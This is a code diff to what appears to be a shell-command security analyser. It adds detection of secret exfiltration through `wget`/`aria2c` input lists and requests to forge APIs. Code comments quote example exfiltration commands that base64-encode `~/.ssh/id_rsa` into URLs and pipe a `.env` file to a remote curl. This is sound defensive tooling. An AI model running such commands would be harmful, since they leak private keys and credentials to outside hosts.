@@ -8,6 +8,7 @@ import { ownVendorHost } from '../classify/secret-variable';
 import { type Invocation, optionText, plain, type Reporter } from '../unwrap/invocation';
 import type { Word } from '../walk/decode-word';
 import { type Flow, OPAQUE_FLOW } from '../walk/flow';
+import { forgeEndpoint, forgeRequest } from './forge-api';
 import { localService, unixSocket } from './local-services';
 import { hostOf, networkTarget } from './network-target';
 import { stdinSensitive, touchPath } from './path-effects';
@@ -246,6 +247,7 @@ export function curlLike(inv: Invocation, r: Reporter): Flow {
     localService(url, inv, r);
     nonLocal = networkTarget(url, inv.program, inv, r) || nonLocal;
   }
+  inputList(inv, r);
   let readsSecret = false;
   for (const url of urls) readsSecret = localService(url, inv, r) || readsSecret;
   for (const url of urls) {
@@ -261,6 +263,12 @@ export function curlLike(inv: Invocation, r: Reporter): Flow {
       `\`${inv.program} -X DELETE\` deletes a resource on a server`,
       inv.segment,
     );
+  for (const url of urls) {
+    const endpoint = forgeEndpoint(url);
+    if (endpoint === undefined) continue;
+    const body = data.map((d) => plain(d)).join('\n');
+    forgeRequest({ method: method || (data.length > 0 ? 'POST' : 'GET'), endpoint, body }, inv, r);
+  }
   // A vendor's token presented to that vendor's own host only (`$GITHUB_TOKEN` to api.github.com), with nothing
   // that sends the request elsewhere, is not exfiltration; the host is still judged as any other.
   const rerouted = args.some((w) => REROUTE.test(optionText(w)));
@@ -286,6 +294,30 @@ export function curlLike(inv: Invocation, r: Reporter): Flow {
   // Fetched text is network data even from loopback: a local server can still serve a script.
   // A `file:` URL of a secret printed to stdout carries it down the pipe (`curl file:///…/.env | curl -d @- …`).
   return toFile ? OPAQUE_FLOW : { sensitive: readsSecret, network: true, decoded: false, opaque: true };
+}
+
+/**
+ * `aria2c -i LIST`, `wget -i LIST`: every line of the list is a request. A list built from secret material
+ * (`--input-file=<(echo "http://h/?k=$(base64 ~/.ssh/id_rsa)")`) puts the secret into the requests themselves,
+ * whichever hosts they name: exfiltration (only a list of this machine's URLs would not be, and that cannot be read).
+ */
+function inputList(inv: Invocation, r: Reporter): void {
+  if (inv.program !== 'aria2c' && inv.program !== 'wget') return;
+  const args = inv.args;
+  for (let i = 0; i < args.length; i++) {
+    const t = optionText(args[i]);
+    const w = args[i] as Word;
+    const list =
+      t === '-i' || t === '--input-file' || t === '--input-file='
+        ? args[i + 1]
+        : t.startsWith('--input-file=')
+          ? w
+          : /^-i./.test(t)
+            ? w
+            : undefined;
+    if (list?.flow.sensitive)
+      r.exfiltration(inv.segment, `\`${inv.program}\` requests URLs built from secret material`);
+  }
 }
 
 /** More URLs than this from one curl glob: the rest are not judged, so the command is uncertain. */
